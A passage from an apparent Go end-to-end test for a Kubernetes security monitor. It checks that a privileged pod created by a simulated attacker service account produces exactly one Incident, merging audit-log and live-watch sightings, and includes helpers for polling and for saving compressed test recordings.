	s.must(s.admin.Get(s.ctx, client.ObjectKey{Namespace: shop, Name: "root"}, &pod))
	var got []v1alpha1.Incident
	s.waitFor("the privileged-pod Incident of pod root, with its actor", time.Minute, func() (bool, string) {
		var list v1alpha1.IncidentList
		if err := s.admin.List(s.ctx, &list, client.InNamespace(shop)); err != nil {
			return false, err.Error()
		}
		got = got[:0]
		var seen []string
		for _, in := range list.Items {
			seen = append(seen, in.Spec.Rule+"/"+in.Spec.Subject.Pod)
			if in.Spec.Rule == "privileged-pod" && in.Spec.Subject.Pod == "root" {
				got = append(got, in)
			}
		}
		return len(got) == 1 && got[0].Spec.Subject.User != "" && got[0].Spec.Subject.PodUID != "" && len(got[0].Status.SampleEvents) >= 2, fmt.Sprint(seen)
	})
	// A later match (the other path) may only be late: wait past the
	// writer's flush and look again.
	time.Sleep(3 * time.Second)
	var list v1alpha1.IncidentList
	s.must(s.admin.List(s.ctx, &list, client.InNamespace(shop)))
	n := 0
	for _, in := range list.Items {
		if in.Spec.Rule == "privileged-pod" && in.Spec.Subject.Pod == "root" {
			n++
			sub := in.Spec.Subject
			if sub.User != attackerSA || sub.PodUID != string(pod.UID) || sub.Verb != "create" || len(sub.SourceIPs) == 0 {
				s.t.Errorf("Incident %s subject %+v, want pod root (uid %s) created by %s", in.Name, sub, pod.UID, attackerSA)
			}
			s.t.Logf("Incident %s: count %d, subject %+v", in.Name, in.Status.Count, sub)
			// One sighting from the audit log (with its actor), one from the
			// watch (without); the same change counts once.
			var fromAudit, fromWatch int
			for _, raw := range in.Status.SampleEvents {
				var ev engine.Event
				if err := json.Unmarshal(raw.Raw, &ev); err != nil {
					s.t.Fatalf("sample event: %v", err)
				}
				if ev.Audit.User.Username != "" {
					fromAudit++
				} else {
					fromWatch++
				}
			}
			if fromAudit == 0 || fromWatch == 0 || in.Status.Count != 1 {
				s.t.Errorf("Incident %s: %d samples from the audit log, %d from the watch, count %d; want both paths, counted once", in.Name, fromAudit, fromWatch, in.Status.Count)
			}
		}
	}
	if n != 1 {
		s.t.Errorf("%d privileged-pod Incidents for pod root, want one (audit log and live watch folded)", n)
	}
}

func (s *scene) must(err error) {
	s.t.Helper()
	if err != nil {
		s.t.Fatal(err)
	}
}

func (s *scene) waitFor(what string, timeout time.Duration, ok func() (bool, string)) {
	s.t.Helper()
	end := time.Now().Add(timeout)
	last := ""
	for {
		done, why := ok()
		if done {
			return
		}
		last = why
		if time.Now().After(end) || s.ctx.Err() != nil {
			s.t.Fatalf("%s: not within %s (last: %s)", what, timeout, last)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

func firstLine(err error) string {
	if err == nil {
		return "ok"
	}
	l, _, _ := strings.Cut(err.Error(), "\n")
	return l
}

// writeRecording stores a live run's recording in testdata.
func writeRecording(audit, kernel []byte, ph phases) error {
	if err := os.MkdirAll("testdata", 0o755); err != nil {
		return err
	}
	for path, b := range map[string][]byte{auditFile: audit, kernelFile: kernel} {
		f, err := os.Create(path)
		if err != nil {
			return err
		}
		z, _ := gzip.NewWriterLevel(f, gzip.BestCompression)
		_, werr := z.Write(b)
		cerr := z.Close()
		if err := errors.Join(werr, cerr, f.Close()); err != nil {
			return fmt.Errorf("write %s: %w", path, err)
		}
	}
	b, err := json.MarshalIndent(ph, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Clean(phaseFile), append(b, '\n'), 0o644)
}
